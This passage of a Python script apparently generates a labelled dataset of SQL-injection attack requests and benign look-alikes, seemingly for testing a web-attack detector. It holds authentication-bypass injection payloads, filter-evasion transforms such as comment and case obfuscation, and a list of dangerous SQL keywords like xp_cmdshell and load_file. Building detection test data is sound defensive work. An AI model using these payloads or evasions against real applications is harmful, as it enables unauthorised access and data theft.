        ("*/ or 1-- ", "*/||1-- "),
        ("*/ or ''='", "*/\tor\t''='"),
        ("admin\\", "ADMIN\\"),
        (" or 1=1-- -", "\tor\t1=1-- -"),
        ("'/*", "'/**"),
        ("*/ union select 1,2-- ", "*/union/**/select 1,2-- "),
    ],
    "auth-bypass-4": [
        ("'-'", "' - '"),
        ("' '", "'  '"),
        ("'&'", "' & '"),
        ("'^'", "' ^ '"),
        ("'*'", "' * '"),
        ("'or''='", "'OR''='"),
        ("'='", "' = '"),
        ("'like'", "'LIKE'"),
        ("'=0--+", "'=0-- -"),
        ("' or 1--+", "'||1--+"),
        ("'%'", "' % '"),
        ("'|'", "' | '"),
    ],
}


_WORDS = """
    select union all distinct from where and or xor not is null in like between having group order by limit
    offset if iif case when then else end sleep benchmark exec execute xp_cmdshell xp_dirtree master database
    alter table character set names drop insert into values update delete truncate create function procedure
    returns soname load data infile outfile dumpfile waitfor time delay shutdown with nowait true exists top
    select user version concat substring ascii database char decode substr coalesce pg_sleep copy to program
    drop if call declare varchar json_valid load_file
"""
SQL_WORDS = frozenset(_WORDS.split())


LITERAL = re.compile(r"(?<=[(,;=\s])'[^']*'")


def _outside_literals(text: str, fn: Any) -> str:
    """fn applied to the text outside its string literals (a quote after ( , ; = or a space opens one; a quote
    that closes the application's own string, as in x' or ..., does not)."""
    out: list[str] = []
    last = 0
    for m in LITERAL.finditer(text):
        out.append(fn(text[last:m.start()]))
        out.append(m.group(0))
        last = m.end()
    out.append(fn(text[last:]))
    return "".join(out)


def _flip_words(text: str) -> str:
    def flip(m: re.Match[str]) -> str:
        word = m.group(0)
        if word.lower() not in SQL_WORDS:
            return word
        return "".join(ch.upper() if i % 2 == 0 else ch.lower() for i, ch in enumerate(word))
    return re.sub(r"(?<![\w'\"])[A-Za-z_]+(?![\w'\"])", flip, text)


TRANSFORMS: dict[str, Any] = {
    "@case": lambda s: _outside_literals(s, _flip_words),   # SQL keywords in alternating case (SeLeCt)
    "@cmt": lambda s: _outside_literals(s, lambda t: t.replace(" ", "/**/")),
    "@xcmt": lambda s: _outside_literals(s, lambda t: t.replace(" ", "/*x*/")),
    "@tab": lambda s: _outside_literals(s, lambda t: t.replace(" ", "\t")),
    "@nl": lambda s: _outside_literals(s, lambda t: t.replace(" ", "\n")),
}


def obfuscate(fragment: str, how: str) -> str:
    """The fragment with its one obfuscation: a named transform, or the form written out."""
    if how not in TRANSFORMS:
        return how
    out: str = TRANSFORMS[how](fragment)
    if out == fragment:
        raise ValueError(f"{how} leaves {fragment!r} unchanged")
    return out


def payloads() -> Iterator[tuple[str, str]]:
    """(sub-family, payload): per title, its atomic fragments, then the same with one obfuscation each."""
    for sub, pairs in PAYLOADS.items():
        for frag, _ in pairs:
            yield sub, frag
        for frag, how in pairs:
            yield sub, obfuscate(frag, how)


# ---------------------------------------------------------------------------------------------------------------
# Requests as browsers and clients send them
# ---------------------------------------------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.6",
         "es-ES,es;q=0.9", "en-US,en;q=0.5", "nl-NL,nl;q=0.9,en;q=0.8"]
CONSENT = ["cookie_consent=accepted", "cookieconsent_status=allow", "consent=essential", "cc_consent=all"]
PAGES = ["/", "/users", "/admin/users", "/admin/users/search", "/dashboard", "/settings/profile", "/team",
         "/reports", "/directory"]
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"


def _token(rng: random.Random, n: int = 32) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(n))


def _slack_id(rng: random.Random, lead: str, n: int) -> str:
    """A Slack-style id: a kind letter, then upper-case letters and digits."""
    return lead + "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(n))


def browser_headers(rng: random.Random, kind: str) -> dict[str, str]:
    """What a current browser sends: kind "fetch" (the app's JSON calls), "form" (a form post) or "nav"."""
    headers = {
        "User-Agent": rng.choice(BROWSER_UAS),
        "Accept": {"fetch": "application/json, text/plain, */*",
                   "form": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                   "nav": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"}[
            kind],
        "Accept-Language": rng.choice(LANGS),
        "Accept-Encoding": "gzip, deflate, br, zstd",
        "Referer": "https://app.example.com" + rng.choice(PAGES),
        "Sec-Fetch-Dest": "empty" if kind == "fetch" else "document",
        "Sec-Fetch-Mode": "cors" if kind == "fetch" else "navigate",
        "Sec-Fetch-Site": "same-origin",
        "Cookie": f"session={_token(rng)}; {rng.choice(CONSENT)}",
    }
    if kind != "nav":
        headers["Origin"] = "https://app.example.com"
    if kind == "form":
        headers["Sec-Fetch-User"] = "?1"
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    if kind == "fetch":
        headers["Content-Type"] = "application/json"
    return headers


def query_uri(rng: random.Random, path: str, value: str) -> str:
    """GET path?q=value&page=..&per_page=.. in one of several orders, encoded as a search form encodes it."""
    params = [("q", value), ("page", str(rng.randint(1, 9))), ("per_page", rng.choice(["20", "50", "100"]))]
    order = rng.choice([(0, 1, 2), (1, 0, 2), (2, 0, 1), (1, 2, 0), (0, 2, 1)])
    return path + "?" + "&".join(f"{params[i][0]}={urllib.parse.quote_plus(params[i][1], safe='*')}" for i in order)


def get_query(rng: random.Random, value: str) -> dict[str, Any]:
    headers = browser_headers(rng, "fetch")
    del headers["Content-Type"], headers["Origin"]
    return {"method": "GET", "uri": query_uri(rng, "/api/users", value), "body": "", "headers": headers}


def post_form(rng: random.Random, uri: str, field: str, value: str) -> dict[str, Any]:
    body = urllib.parse.urlencode([("csrf_token", _token(rng, 40)), (field, value)])
    return {"method": "POST", "uri": uri, "body": body, "headers": browser_headers(rng, "form")}


def send_json(rng: random.Random, method: str, uri: str, doc: Any) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
            "headers": browser_headers(rng, "fetch")}


FIRST = ["Dana", "Liam", "Priya", "Mateo", "Chloe", "Kwame", "Yuki", "Sofia", "Noah", "Aisha", "Lars", "Mei",
         "Olivia", "Tomasz", "Fatima", "Ethan", "Ines", "Ravi", "Hannah", "Diego"]
LAST = ["Whitfield", "O'Brien", "Kapoor", "Fernandez", "Dubois", "Mensah", "Tanaka", "Rossi", "Becker", "Haddad",
        "Lindqvist", "Chen", "D'Angelo", "Nowak", "Al-Sayed", "McAllister", "Moreau", "Iyer", "Schmidt", "Ortega"]
DEPARTMENTS = ["Finance", "Engineering", "Customer Success", "Legal", "Marketing", "Operations", "Sales",
               "People", "Security", "Data Platform"]
JOB_TITLES = ["Analyst", "Senior Engineer", "Account Manager", "Paralegal", "Designer", "Support Lead",
              "Data Scientist", "Office Manager", "Product Owner", "Recruiter"]


def profile(rng: random.Random) -> dict[str, Any]:
    first, last = rng.choice(FIRST), rng.choice(LAST)
    email = f"{first.lower()}.{last.lower().replace(chr(39), '').replace('-', '')}@example.com"
    return {"name": f"{first} {last}", "email": email, "title": rng.choice(JOB_TITLES),
            "department": rng.choice(DEPARTMENTS), "timezone": rng.choice(["Europe/Berlin", "America/New_York",
                                                                             "Asia/Tokyo", "Europe/London"])}


def slack_event(rng: random.Random, text: str, n: int) -> dict[str, Any]:
    """An event_callback as POSTed to /slack/events, with a made-up signature (the sender cannot sign)."""
    ts = 1719300000 + n * 7
    event = {"type": rng.choice(["message", "app_mention"]), "user": _slack_id(rng, "U0", 9),
             "text": text, "ts": f"{ts}.{rng.randint(100000, 999999)}", "channel": _slack_id(rng, "C0", 9)}
    body = {"token": _token(rng, 24), "team_id": _slack_id(rng, "T0", 8),
            "api_app_id": _slack_id(rng, "A0", 8), "event": event, "type": "event_callback",
            "event_id": _slack_id(rng, "Ev0", 9), "event_time": ts}
    sig = "".join(rng.choice("0123456789abcdef") for _ in range(64))
    return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
            "headers": {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                        "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(ts),
                        "X-Slack-Signature": f"v0={sig}"}}


def header_safe(value: str) -> bool:
    """Whether a value can travel as a header value as given (printable ASCII and tabs only)."""
    return all(ch == "\t" or 32 <= ord(ch) < 127 for ch in value)


def path_segment(value: str) -> str:
    """A value as one path segment: / ? # space % and what else a client must encode, encoded."""
    return urllib.parse.quote(value, safe="!$&'()*+,;=:@-._~")


# ---------------------------------------------------------------------------------------------------------------
# Attacks
# ---------------------------------------------------------------------------------------------------------------

CYCLE = ["query", "form", "json", "path", "header", "query", "form", "json", "path", "header", "alt"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "display_name", "location", "company"]
LEAD_INS = ["lookup user ", "ticket title: ", "hey bot, ", "search for ", "find customer ", "status of order "]
ME_FIELDS = ["display_name", "status_text", "signature", "location"]
PATCH_FIELDS = ["bio", "title", "department", "display_name"]
COOKIE_NAMES = ["last_search", "prefs", "tracking_id", "ab_variant"]


def _json_value(sub: str, payload: str) -> Any:
    """A MongoDB operator document travels in JSON as the object it is; anything else as a string."""
    if sub == "mongodb-operators":
        try:
            doc = json.loads(payload)
        except ValueError:
            return payload
        return doc if isinstance(doc, dict) else payload
    return payload


def attack_request(rng: random.Random, place: str, sub: str, payload: str, k: int) -> tuple[dict[str, Any], str]:
    """The request carrying payload at place (k rotates the choices inside a place), and its placement label."""
    if place == "query":
        return get_query(rng, payload), "query"
    if place == "form":
        return post_form(rng, "/admin/users/search", "q", payload), "form"
    if place == "json":
        if k % 2 == 0:
            doc = profile(rng)
            doc[JSON_FIELDS[k % len(JSON_FIELDS)]] = _json_value(sub, payload)
            return send_json(rng, "POST", "/api/users", doc), "json"
        return slack_event(rng, LEAD_INS[k % len(LEAD_INS)] + payload, k), "json"
    if place == "path":
        headers = browser_headers(rng, "fetch")
        del headers["Content-Type"], headers["Origin"]
        prefix = "/api/users/" if k % 3 else "/api/"
        return {"method": "GET", "uri": prefix + path_segment(payload), "body": "", "headers": headers}, "path"
    if place == "header":
        headers = browser_headers(rng, "nav")
        which = k % 5
        if which < 3:
            headers["User-Agent"] = payload
            label = "header:User-Agent"
        elif which == 3:
            headers["Referer"] = payload
            label = "header:Referer"
        else:
            value = urllib.parse.quote(payload, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")
            headers["Cookie"] += f"; {COOKIE_NAMES[k % len(COOKIE_NAMES)]}={value}"
            label = "header:Cookie"
        return {"method": "GET", "uri": query_uri(rng, "/api/users", "team"), "body": "", "headers": headers}, label
    # the other routes: a PATCH of user 42, or the settings form
    if k % 2 == 0:
        doc = {PATCH_FIELDS[k % len(PATCH_FIELDS)]: _json_value(sub, payload)}
        return send_json(rng, "PATCH", "/api/users/42", doc), "json"
    return post_form(rng, "/me/settings", ME_FIELDS[k % len(ME_FIELDS)], payload), "form"


def attacks() -> Iterator[dict[str, Any]]:
    rng = random.Random(7301)
    title_index = {sub: i for i, sub in enumerate(PAYLOADS)}
    position: dict[str, int] = {}
    for n, (sub, payload) in enumerate(payloads(), start=1):
        i = position.get(sub, 0)
        position[sub] = i + 1
        place = CYCLE[(i + 3 * title_index[sub]) % len(CYCLE)]
        if place == "header" and not header_safe(payload):
            place = "path"
        rec, label = attack_request(rng, place, sub, payload, n)
        yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": label,
               "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same places, innocent values with the same words
# ---------------------------------------------------------------------------------------------------------------

SEARCHES = [
    "O'Brien", "D'Angelo", "Sinéad O'Connor", "o'neil", "Mc'Donald", "José Núñez", "anne-marie", "Jean-Luc",
    "select committee", "union square office", "sleep study", "benchmark report 2024", "merge request",
    "case manager", "match day volunteers", "delay notice", "shutdown checklist", "char grill", "hex key",
    "wait time", "alter ego", "drop shipping", "table tennis club", "update billing address", "insert coin",
    "order by phone", "group admin", "having trouble logging in", "like new", "1:1 meeting", "Q3 2024",
    "#general", "C#", "F# developers", "--verbose", "ticket #4421", "jsmith@example.com", "+44 20 7946 0958",
    "50% off", "R&D", "AT&T", "Johnson & Johnson", "rock 'n' roll", "it's complicated", "3 > 2", "a/b testing",
    "(415) 555-0132", "user_name", "null", "true", "Dr. Who", "Smith, John", "Müller", "Ødegaard", "Đorđević",
    "Zoë", "Łukasz", "Sørensen", "El-Amin", "St. James", "van der Berg", "de la Cruz", "Ng", "Li", "O",
    "count of accounts", "execute plan", "immediate start", "against the clock", "where is my parcel",
    "from London", "into the wild", "procedure manual", "function owner", "declare income", "exec assistant",
    "the char siu place", "concat files", "json export", "database admin", "information desk", "master bedroom",
    "schema design", "sys admin", "version 2.1", "user guide", "or else", "and more", "not sure", "between jobs",
    "is null", "sleep well", "waitfor", "pg admin", "mongo", "regex help", "rlike", "xor gate", "div class",
    "sounds like fun", "-1", "0", "007", "2147", "42", "1e3", "0x", "4 x 4", "A&B", "1/2", "x=1",
]
SLACK_TEXTS = [
    "can someone merge my PR before the release freeze?",
    "I'm out sick today, will sleep it off and be back tomorrow",
    "the benchmark numbers for the new cache are in the sheet",
    "union meeting moved to Thursday at 3pm",
    "select the right template from the dropdown, not the default one",
    "delay on the 8:15 train, running 10 min late",
    "who owns the shutdown checklist for the data center move?",
    "Case closed: the customer confirmed it works now",
    "match the invoice number against the PO before approving",
    "please don't drop the table tennis booking again :sweat_smile:",
    "O'Brien's team is taking the on-call rotation this week",
    "is the 'order by date' sort broken on the reports page or is it just me?",
    "password reset emails are delayed, Ops is looking into it",
    "we should update the onboarding doc, it still says Windows 7",
    "insert your name in the sheet if you're coming to the offsite",
    "the query takes 5s on prod but 200ms on staging, any ideas?",
    "we added an index on created_at and the report is fast again",
    "the DBA says the nightly vacuum finished at 03:12",
    "reminder: the all-hands is at 4, link in #general",
    "the char limit for the bio field is 280, like old Twitter",
    "anyone know the hex code for our brand blue? #0055ff?",
    "alter the slide deck for the EMEA audience please",
    "going to execute the migration plan after lunch",
    "the exec summary goes to the board on Friday",
    "who is the function owner for procurement?",
    "new procedure for expense reports is on the wiki",
    "we use Postgres 16 and MongoDB for the event store",
    "group by team in the dashboard would be nice",
    "having a look at the flaky test now",
    "exists? yes, the account exists but it's disabled",
    "limit 1 ticket per customer during the sale",
    "the version on staging is 2.14.1, prod still on 2.13",
    "it's between the two offices, halfway down the road",
    "not null is enforced on the email column now",
    "the JSON export from the CRM has nested objects",
    "sleep(500) in the test was the cause of the slowness, removed it",
    "don't forget: 'quotes' in CSV exports must be doubled",
    "the wait time on support calls is down to 2 minutes",
    "we're like 90% done with the migration",
    "rlike and regexp are MySQL-only, we're on Postgres",
    "Concat the first and last name in the export, thanks",
    "1=1 is what the old ORM generated for empty filters, lol",
    "anyone seen the new benchmark from the vendor? looks like marketing",
    "a user named D'Angelo couldn't sign up, apostrophe bug again?",
    "the sql course on Friday covers joins and subqueries",
    "the report runs select count(*) on the orders table every hour",
    "union all in that report doubled the rows, fixed now",
    "I'll drop by your desk after standup",
    "can we schedule the database maintenance window for Sunday?",
    "the information schema is what the BI tool reads for metadata",
    "we shut down the old cluster yesterday, goodbye db-legacy-01",
    "who has the master key for the server room?",
    "table for 6 at the Italian place, 7pm",
    "the exec team approved the hiring plan",
    "the delay between retries is 30s with backoff",
    "can you hex-dump the file header and send it?",
    "merge conflict in package-lock again...",
    "waiting for the vendor's reply, ETA tomorrow",
    "the bot should match usernames case-insensitively",
    "updated the declare-income guide for freelancers",
    "the MATCH function in Excel is easier than VLOOKUP",
    "and then the printer said 'paper jam' again",
    "the --dry-run flag prints what would change",
    "set names on the badges by Friday please",
    "we charge 4.99 per seat, 49 per year",
    "the 2147 error code means the VPN timed out",
    "file size was 4294967296 bytes, exactly 4 GiB",
    "the float was 1e-308 in the sensor data, probably a glitch",
    "I'll be in the office on Monday and Wednesday",
    "is anyone using the standing desk by the window?",
    "the or/and logic in the filter UI is confusing users",
    "the like button on the intranet is broken",
    "release notes: fixed a bug where names with ' broke search",
    "the old admin panel used ` backticks in table names",
    "who wants to run the Friday demo?",
    "the new hire's laptop arrives Tuesday",
    "the sp_who output showed 40 sleeping sessions, fine",
    "our pg_stat_statements top query is the user lookup",
    "we agreed to wait for legal before the launch",
    "the benchmark ran for 10 minutes, median latency 12ms",
    "coffee machine on floor 3 is fixed",
    "the stored procedure was replaced by a view last year",
    "the backup restore test passed, RTO 40 minutes",
    "the json field in the audit table holds the diff",
    "Customer asked: 'is there a limit on users?' no limit on Pro",
    "we found a typo: 'teh' in the welcome email",
    "the chart uses a log scale, hence 1e3 and 1e6 labels",
    "the Q3 OKRs are in the drive, comment by Friday",
    "the match against last year's numbers looks good",
    "the merge into main is blocked by a failing check",
    "execute immediately? no, wait for the change window",
    "the char(10) in the CSV is a newline, excel shows it fine",
    "@here the VPN is down for maintenance 22:00-23:00",
    "thanks all, great sprint!",
    "what's the Wi-Fi password for guests? (DM me, not here)",
    "the case study with the retailer is published",
    "50% of the tickets are about login, we need SSO",
    "the sleep tracker app integration is on the roadmap",
    "has anyone got the shutdown procedure for the lab?",
    "the holiday party is on the 14th :tada:",
    "who is on call for the database this weekend?",
    "bump: can someone review the schema change?",
    "the delete button on the dashboard needs a confirm step",
    "the update went out at 9, no incidents",
    "drop me a line if you need anything",
    "table is ready in conference room B",
    "my 1:1 with Priya moved to 2pm",
    "the alter ego of our mascot is a raccoon",
    "price list: small 3, medium 5, large 7",
    "the group chat is getting noisy, let's use threads",
    "the version control training is next week",
    "the new office is between the station and the river",
    "and that's a wrap for today!",
    "is the 'Sales & Marketing' channel archived?",
    "we hit 10,000 users today :rocket:",
    "tip: use ctrl+shift+v to paste without formatting",
    "the admin user for the demo tenant is demo-admin",
    "the hex nut size is M8, not M6",
    "in the survey, 'strongly agree' was 62%",
    "have a good weekend everyone",
]
BIO_EXTRA = [
    "Database engineer. I like Postgres, long walks and benchmarks that don't lie.",
    "Data analyst writing SQL by day (select, join, group by) and fiction by night.",
    "Ex-DBA, now SRE. Ask me about backups, not about the 2019 shutdown.",
    "Product designer; I match colors against brand guidelines for a living.",
    "Sleep researcher turned product manager. Coffee > sleep.",
    "Union rep for the Berlin office. Door's always open.",
    "I merge PRs, review schemas and occasionally alter the roadmap.",
    "Born in Cork, raised in O'Connell Street, now in Berlin.",
    "Recruiter. Between roles? Drop me a line.",
    "Runner, 3:59 marathon, sub-20 5k. 1e3 reasons to keep going.",
]
DOC_URLS = [
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/merge-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://docs.python.org/3/library/sqlite3.html",
    "https://app.example.com/reports?group=team&order=desc",
    "https://app.example.com/admin/users/search?q=O%27Brien",
    "https://www.google.com/search?q=union+station+hours",
    "https://news.example.org/2024/06/sleep-and-productivity",
    "https://app.example.com/users?q=match+day&page=2",
]
BENIGN_UAS = BROWSER_UAS + [
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.8.0",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "okhttp/4.12.0",
    "Example-iOS/4.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 Edg/125.0.0.0",
]
COOKIE_VALUES = ["dark", "light", "en-US", "compact", "list", "grid", "weekly", "O%27Brien", "sort%3Dname",
                 "tz%3DEurope%2FBerlin", "v2", "control", "variant-b", "1", "0", "a1b2c3d4",
                 "last%20search%20union%20station", "match%20day"]
PATH_VALUES = [
    "42", "1001", "7", "me", "dana.whitfield", "o'brien", "liam-obrien", "priya_kapoor", "d'angelo",
    "jose.nunez", "user-2147", "mateo.fernandez", "chen.mei", "al-sayed", "mcallister", "4294967296",
    "teams", "projects", "orders", "reports", "settings", "notifications", "audit-log", "health",
]
API_PATHS = ["teams/engineering", "projects/union-station-redesign", "orders/ORD-2024-0042", "reports/q3-2024",
             "reports/sleep-study", "teams/select-committee", "projects/merge-tool", "orders/1001/items",
             "reports/benchmark-2024", "docs/case-studies", "tags/c%23", "tags/f%23", "search/O'Brien"]
SETTINGS = [("display_name", "Dana O'Brien"), ("status_text", "out of office until Monday"),
            ("signature", "Best regards, Liam -- Finance"), ("location", "Berlin / remote"),
            ("status_text", "in a 1:1, back at 3"), ("display_name", "Zoë D'Angelo"),
            ("signature", "Sent from my phone; excuse the typos"), ("location", "Union Square, SF"),
            ("status_text", "sleeping, different time zone"), ("display_name", "José Núñez-García"),
            ("status_text", "heads down on the merge"), ("signature", "-- \nPriya (she/her)")]
PATCHES = ["Loves benchmarks, hates meetings.", "Finance & Ops", "Senior Engineer, Data Platform",
           "Moved from the union square office to Berlin", "Ask me about the shutdown checklist",
           "Select committee member (2019-2022)", "Case manager, EMEA", "Match-day volunteer",
           "it's pronounced 'Shiv-awn'", "Team lead -- Security", "C# and F# developer", "I sleep 8h, really"]


def benign() -> Iterator[dict[str, Any]]:
    rng = random.Random(7302)
    n = yield from chat_and_bio(SLACK_TEXTS + BIO_EXTRA, NAME)
    for term in SEARCHES:
        n += 1
        yield {**get_query(rng, term), "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "query"}
    for term in SEARCHES:
        n += 1
        yield {**post_form(rng, "/admin/users/search", "q", term), "id": f"{NAME}-adminsearch-{n:04d}",
               "category": "benign", "placement": "form"}
    for k in range(110):
        doc = profile(rng)
        if k % 3 == 0:
            doc["bio"] = BIO_EXTRA[k % len(BIO_EXTRA)]
        if k % 4 == 1:
            doc["website"] = DOC_URLS[k % len(DOC_URLS)]
        if k % 5 == 2:
            doc["location"] = rng.choice(["Union Square, SF", "O'Connell St, Dublin", "Berlin", "Tokyo",
                                          "São Paulo", "Düsseldorf", "Dún Laoghaire", "Hamilton, ON"])
        n += 1
        yield {**send_json(rng, "POST", "/api/users", doc), "id": f"{NAME}-profile-{n:04d}", "category": "benign",
               "placement": "json"}
    for k, value in enumerate(PATH_VALUES * 3 + API_PATHS * 2):
        headers = browser_headers(rng, "fetch")
        del headers["Content-Type"], headers["Origin"]
        users = k < len(PATH_VALUES) * 3
        uri = "/api/users/" + path_segment(value) if users else "/api/" + value.replace("'", "%27")
        n += 1
        yield {"method": "GET", "uri": uri, "body": "", "headers": headers, "id": f"{NAME}-path-{n:04d}",
               "category": "benign", "placement": "path"}
    for k in range(110):
        headers = browser_headers(rng, "nav")
        which = k % 5
        if which < 3:
            headers["User-Agent"] = BENIGN_UAS[k % len(BENIGN_UAS)]
            label = "header:User-Agent"
        elif which == 3:
            headers["Referer"] = DOC_URLS[k % len(DOC_URLS)]
            label = "header:Referer"
        else:
            headers["Cookie"] += f"; {COOKIE_NAMES[k % len(COOKIE_NAMES)]}={COOKIE_VALUES[k % len(COOKIE_VALUES)]}"
            label = "header:Cookie"
        n += 1
        yield {"method": "GET", "uri": query_uri(rng, "/api/users", rng.choice(SEARCHES)), "body": "",
               "headers": headers, "id": f"{NAME}-client-{n:04d}", "category": "benign", "placement": label}
    for k in range(72):
        n += 1
        if k % 2 == 0:
            field, value = SETTINGS[(k // 2) % len(SETTINGS)]
            rec = post_form(rng, "/me/settings", field, value)
            yield {**rec, "id": f"{NAME}-settings-{n:04d}", "category": "benign", "placement": "form"}
        else:
            doc = {PATCH_FIELDS[k % len(PATCH_FIELDS)]: PATCHES[(k // 2) % len(PATCHES)]}
            yield {**send_json(rng, "PATCH", "/api/users/42", doc), "id": f"{NAME}-patch-{n:04d}",
                   "category": "benign", "placement": "json"}


if __name__ == "__main__":
    print_records(attacks(), benign())
